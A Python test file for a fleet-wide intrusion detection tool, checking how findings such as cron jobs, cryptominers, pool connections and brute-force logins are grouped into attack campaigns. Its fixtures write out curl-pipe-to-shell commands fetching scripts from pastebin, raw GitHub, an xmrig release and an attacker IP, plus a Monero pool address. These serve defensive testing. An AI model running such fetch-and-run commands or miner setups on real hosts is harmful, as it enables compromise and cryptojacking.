"""What the site itself put on many hosts, what a detection takes for something else, and what everybody uses joins nobody."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from extension.fleet.names import Names
from tests.fleet.looking import line, miner, reported, told

T, DAY = 1795436552, 86400
LISTED = {"protocol": "tcp", "remote_port": "3333", "matched": "pool.supportxmr.com:3333", "match_type": "cmdline"}


def _job(host: str, when: int, command: str, **columns: str) -> dict[str, Any]:
    return line(
        "cron_download_and_run", 1, when, "added", host, path=f"/etc/cron.d/{host}", command=command, evidence="x", **columns
    )


def _connected(host: str, when: int, address: str, **columns: str) -> dict[str, Any]:
    row = {"pid": "77", "start_time": str(when), "exe_path": f"/tmp/.{host}/x", "remote_address": address, "evidence": "x"}
    return line("pool_connection", 1, when, "added", host, **{**row, **columns})


def test_a_job_of_the_sites_own_joins_nobody_though_some_of_its_hosts_mine(tmp_path: Path, names: Names) -> None:
    lines = [_job(f"h{n}", T + n, "curl -s https://conf.corp.example/bootstrap.sh | bash") for n in range(9)]
    lines += [miner(f"h{n}", T + 2 * DAY + n, wallet=f"4w{n}") for n in range(2)]
    assert told(reported(tmp_path, names, lines)) == []


def test_a_job_of_the_sites_own_is_not_told_as_the_miners(tmp_path: Path, names: Names) -> None:
    """Which on one host is one incident with it, since any two grave findings of a host are."""
    job = {"path": "/etc/cron.d/puppet", "command": "curl -s https://puppet.corp.example/run-agent | sh", "evidence": "x"}
    lines = [line("cron_download_and_run", 0, T + n, "added", f"h{n:02}", **job) for n in range(60)]
    lines += [miner(f"h{n:02}", T + 2 * DAY + n * 3600, wallet="4w") for n in range(3)]
    report = reported(tmp_path, names, lines)
    (campaign,) = report["campaigns"]
    (alike,) = report["alike"]
    assert len(alike["hosts"]) == 57
    members = [one for one in report["incidents"] if one["campaign"]]
    for each in (campaign, *members):
        assert "puppet" not in each["sentence"]["en"] and "mines" in each["sentence"]["en"]
        assert each["began"].startswith("2026-11-25")
    # It is found there all the same.
    assert all("cron_download_and_run" in one["detections"] for one in members)


def test_a_job_of_many_hosts_that_is_in_an_inventory_as_well_joins_nobody(tmp_path: Path, names: Names) -> None:
    job = {"path": "/etc/cron.d/puppet", "command": "curl -s https://puppet.corp.example/run-agent | sh"}
    lines = [line("cron_jobs", 0, T, "added", f"h{n:02}", command="/usr/bin/true", path="/etc/crontab") for n in range(70)]
    for query in ("cron_jobs", "cron_download_and_run"):
        lines += [line(query, 1, T + DAY + n, "added", f"h{n:02}", evidence="x", **job) for n in range(60)]
    lines += [miner(f"h{n:02}", T + 2 * DAY + n * 3600, counter=2, wallet="4w") for n in range(6)]
    assert told(reported(tmp_path, names, lines)) == [[f"h{n:02}" for n in range(6)]]


def test_miners_that_are_paid_apart_are_no_roll_out_and_a_misfire_keeps_nobody_from_being_next(
    tmp_path: Path, names: Names
) -> None:
    lines = [miner(f"m{n}", T + n, wallet=f"4{n}") for n in range(6)] + [miner(f"c{n}", T + n, wallet="4w") for n in range(2)]
    lines += [_job(f"h{n}", T + n, "curl -s https://conf.corp.example/bootstrap.sh | bash") for n in range(6)]
    docker = {"service": "docker", "address": "0.0.0.0", "port": "2375", "evidence": "x"}
    lines += [line("exposed_entry_service", 0, T, "added", host, **docker) for host in ("c0", "c1", "h3", "m3")]
    report = reported(tmp_path, names, lines)
    assert [each["query"] for each in report["alike"]] == ["cron_download_and_run"]
    assert told(report) == [["c0", "c1"]] and [each["host"] for each in report["next"]] == ["h3"]


def test_what_is_alike_on_many_hosts_is_told_with_all_that_was_found_there(tmp_path: Path, names: Names) -> None:
    lines = []
    for n in range(6):
        unit = {"unit": f"agent{n}.service", "path": f"/etc/systemd/system/agent{n}.service", "evidence": "x"}
        file = {"path": f"/etc/cron.d/site{n}", "flags": "i", "is_immutable": "1", "kind": "file", "evidence": "x"}
        lines.append(line("systemd_unit_odd_program", 1, T + n * DAY, "added", f"h{n}", **unit))
        lines.append(line("immutable_persistence_file", 1, T, "added", f"h{n}", **file))
    (alike,) = reported(tmp_path, names, lines)["alike"]
    assert alike["query"] == "immutable_persistence_file systemd_unit_odd_program"
    assert [host["host"] for host in alike["hosts"]] == [f"h{n}" for n in range(6)]


def test_a_job_that_came_with_miners_joins_also_the_hosts_on_which_none_was_seen(tmp_path: Path, names: Names) -> None:
    lines = [_job(f"h{n}", T + 60 * n, "curl -s http://192.0.2.7/nebula-updater.sh | bash") for n in range(9)]
    lines += [miner(f"h{n}", T + 60 * n + 30, wallet=f"4w{n}") for n in range(4)]
    assert [len(hosts) for hosts in told(reported(tmp_path, names, lines))] == [9]


def test_what_came_days_before_anything_else_on_two_hosts_and_with_nothing_elsewhere_is_not_the_attackers(
    tmp_path: Path, names: Names
) -> None:
    changed = {"path": "/usr/bin/sudo", "package": "sudo", "sha256": "b" * 64, "evidence": "x"}
    lines = [line("packaged_program_changed", 1, T + n, "added", f"h{n}", **changed) for n in range(3)]
    assert told(reported(tmp_path, names, [*lines, miner("h0", T + 3 * DAY)])) == []
    (tmp_path / "with").mkdir()
    assert told(reported(tmp_path / "with", names, [*lines, miner("h0", T + 3600)])) == [["h0", "h1", "h2"]]


def _agent(host: str, when: int, program: str) -> list[dict[str, Any]]:
    process = {"pid": "9", "start_time": str(when), "process_name": "a", "exe_path": program, "evidence": "x"}
    unit = {
        "unit": "probe.service",
        "path": "/etc/systemd/system/probe.service",
        "command": f"{program} run",
        "program_path": program,
    }
    return [
        line("program_in_data_folder", 1, when, "added", host, **process),
        line("suspect_program_on_network", 1, when, "added", host, **process, remote_address="198.51.100.9", remote_port="443"),
        line("systemd_unpackaged_system_program", 1, when, "added", host, **unit),
    ]


def test_an_agent_that_several_detections_find_on_many_hosts_is_no_campaign(tmp_path: Path, names: Names) -> None:
    lines = [each for n in range(20) for each in _agent(f"h{n}", T + 600 * n, "/var/lib/probe/agent")]
    report = reported(tmp_path, names, [*lines, miner("h3", T + 3 * DAY, wallet="4w"), miner("other", T + 3 * DAY, wallet="4w")])
    assert told(report) == [["h3", "other"]]
    assert [len(alike["hosts"]) for alike in report["alike"]] == [19]
    # What the agent brought is nothing to block.
    assert "198.51.100.9" not in {each["value"] for each in report["campaigns"][0]["indicators"]}


def test_a_program_that_lies_elsewhere_on_each_host_is_no_agent(tmp_path: Path, names: Names) -> None:
    lines = [each for n in range(20) for each in _agent(f"h{n}", T + 600 * n, f"/var/lib/.{n * 7919:x}/kworkerd")]
    assert [len(hosts) for hosts in told(reported(tmp_path, names, lines))] == [20]


def test_a_detection_that_misfires_alone_on_a_large_part_of_the_fleet_finds_no_campaign(tmp_path: Path, names: Names) -> None:
    """However sure it is of itself: a rootkit or a miner is found in more than one way."""
    for folder, query, row in (
        ("module", "hidden_kernel_module", {"module": "edr_hook"}),
        ("hash", "miner_process", {"exe_sha256": "c" * 64}),
    ):
        same = [
            line(query, 1, T + n, "added", f"h{n}", pid="7", exe_path="/usr/sbin/edrd", evidence="x", **row) for n in range(30)
        ]
        (tmp_path / folder).mkdir()
        report = reported(tmp_path / folder, names, same)
        assert told(report) == [] and [len(alike["hosts"]) for alike in report["alike"]] == [30]
        (tmp_path / folder / "few").mkdir()
        assert [len(hosts) for hosts in told(reported(tmp_path / folder / "few", names, same[:12]))] == [12]
        (tmp_path / folder / "more").mkdir()
        more = [line("unseen_cpu_use", 1, T + n, "added", f"h{n}", unseen_cores="7", evidence="x") for n in range(20)]
        assert [len(hosts) for hosts in told(reported(tmp_path / folder / "more", names, same + more))] == [30]


def test_a_gpu_cluster_at_work_is_no_campaign(tmp_path: Path, names: Names) -> None:
    row = {"pid": "9", "start_time": str(T), "exe_path": "/opt/train/run", "image": "registry.example/train:1", "evidence": "x"}
    busy = [line("gpu_busy_suspect", 1, T, "added", f"h{n}", **row) for n in range(4)]
    homes = [line("hidden_home_program", 1, T, "added", f"h{n}", **row) for n in range(2)]
    assert told(reported(tmp_path, names, busy + homes)) == []
    # Nor where others of its hosts have something else, or are taken by it for what it is not.
    (tmp_path / "more").mkdir()
    more = [line("gpu_busy_suspect", 1, T, "added", f"h{n}", **row) for n in range(12)]
    assert (
        told(reported(tmp_path / "more", names, [*more, miner("h3", T + 3 * DAY, wallet="4w"), miner("h4", T + 4 * DAY)])) == []
    )
    (tmp_path / "chance").mkdir()
    by_chance = line("odd_place_program", 1, T + 60, "added", "h3", pid="8", exe_path="/tmp/build/conftest", evidence="x")
    assert told(reported(tmp_path / "chance", names, [*more, by_chance])) == []
    (tmp_path / "mines").mkdir()
    mines = [line("gpu_busy_suspect", 1, T, "added", f"h{n}", **row) for n in range(4)] + [
        miner("h0", T, **row),
        miner("h1", T, **row),
    ]
    assert [len(hosts) for hosts in told(reported(tmp_path / "mines", names, mines))] == [4]


def test_the_address_at_which_a_listed_pool_was_met_is_as_public_as_its_name(tmp_path: Path, names: Names) -> None:
    lines = [_connected(f"h{n}", T + n, "192.0.2.80", pool="pool.supportxmr.com", **LISTED) for n in range(3)]
    assert told(reported(tmp_path, names, lines)) == []
    (tmp_path / "own").mkdir()
    own = [
        _connected(f"h{n}", T + n, "192.0.2.80", protocol="tcp", matched="192.0.2.80:3333", match_type="cmdline")
        for n in range(3)
    ]
    assert [len(hosts) for hosts in told(reported(tmp_path / "own", names, own))] == [3]


def test_what_honest_hosts_are_connected_to_or_logged_in_from_joins_nobody(tmp_path: Path, names: Names) -> None:
    lines = [_connected(f"h{n}", T + n, "192.0.2.80", protocol="tcp", matched=f"x{n}", match_type="cmdline") for n in range(3)]
    peer = {"remote_address": "192.0.2.80"}
    lines += [line("tcp_connections", 0, T, "snapshot", f"q{n}", local_address=f"10.0.0.{n}", **peer) for n in range(4)]
    assert told(reported(tmp_path, names, lines)) == []


def test_who_only_guesses_at_honest_hosts_still_joins_those_that_fell(tmp_path: Path, names: Names) -> None:
    lines = []
    for n in range(3):
        row = {"remote_address": "192.0.2.66", "username": "root", "first_success_after_failures": str(T + n), "evidence": "x"}
        lines += [line("brute_force_login_succeeded", 1, T + n, "added", f"h{n}", **row), miner(f"h{n}", T + n + 60)]
    for n in range(9):
        row = {"remote_address": "192.0.2.66", "username": "root", "failures": "500", "first_success": "0"}
        lines.append(line("login_failures", 0, T, "snapshot", f"q{n}", **row))
    assert told(reported(tmp_path, names, lines)) == [["h0", "h1", "h2"]]


def test_a_site_on_which_everybody_may_put_something_joins_nobody_but_what_was_put_there_does(
    tmp_path: Path, names: Names
) -> None:
    urls = ("https://raw.githubusercontent.com/zz91/aa/main/run.sh", "https://raw.githubusercontent.com/qq77/kk/main/run.sh",
            "https://pastebin.com/raw/Ab12Cd34", "https://pastebin.com/raw/Xy98Zw76",
            "https://github.com/xmrig/xmrig/releases/download/v6/xmrig.tar.gz")  # fmt: skip
    lines = []
    for number, url in enumerate(urls):
        for half in "ab":
            host = f"{half}{number}"
            lines += [_job(host, T + number, f"curl -s {url} | sh"), miner(host, T + number, wallet=f"4{host}")]
    report = reported(tmp_path, names, lines)
    # The miner's own releases are everybody's.
    assert sorted(told(report)) == [[f"a{number}", f"b{number}"] for number in range(4)]
    assert all("github" not in each["value"].partition("/")[0] or "/" in each["value"]
               for one in report["campaigns"] for each in one["indicators"])  # fmt: skip


def test_a_service_by_which_two_crews_came_in_does_not_make_them_one(tmp_path: Path, names: Names) -> None:
    lines = []
    for n in range(4):
        row = {"pid": "5", "start_time": str(T - 90 * DAY), "process_name": "redis-server", "cmdline": "redis-server *:6379"}
        lines.append(line("database_writes_jobs_or_keys", 1, T + n, "added", f"h{n}", service="redis", evidence="x", **row))
        lines.append(miner(f"h{n}", T + n, wallet=f"4{n // 2}"))
    report = reported(tmp_path, names, lines)
    assert told(report) == [["h0", "h1"], ["h2", "h3"]]
    # It had run for months, and is how they came in all the same.
    assert all("redis" in campaign["entry"][0]["en"] for campaign in report["campaigns"])


def test_two_crews_with_wallets_of_their_own_may_use_one_tool(tmp_path: Path, names: Names) -> None:
    lines = [miner(f"h{n}", T + n, wallet=f"4{n // 3}", exe_sha256="a" * 64) for n in range(6)]
    assert told(reported(tmp_path, names, lines)) == [["h0", "h1", "h2"], ["h3", "h4", "h5"]]
    # Where the program comes from is nobody else's.
    (tmp_path / "site").mkdir()
    jobs = [_job(f"h{n}", T + n, "curl -s http://192.0.2.7/n.sh | bash") for n in range(6)]
    assert [len(hosts) for hosts in told(reported(tmp_path / "site", names, lines + jobs))] == [6]
    # A wallet for each host is nobody's sign of a crew.
    (tmp_path / "each").mkdir()
    each = [miner(f"h{n}", T + n, wallet=f"4{n}", exe_sha256="a" * 64) for n in range(6)]
    assert [len(hosts) for hosts in told(reported(tmp_path / "each", names, each))] == [6]


def test_two_miners_of_one_host_have_no_more_in_common_than_their_pool(tmp_path: Path, names: Names) -> None:
    lines = []
    for pid, wallet, hosts in (("11", "4a", ("a", "both")), ("22", "4b", ("b", "both"))):
        for host in hosts:
            own = {"pid": pid, "exe_path": f"/tmp/.{host}{pid}/x", "wallet": wallet, "pool": "pool.supportxmr.com:3333"}
            lines.append(miner(host, T + int(pid), **own))
            lines.append(_connected(host, T + int(pid), "192.0.2.80", **{**LISTED, **own, "start_time": str(T + int(pid))}))
    assert sorted(map(sorted, told(reported(tmp_path, names, lines)))) == [["a", "both"], ["b", "both"]]
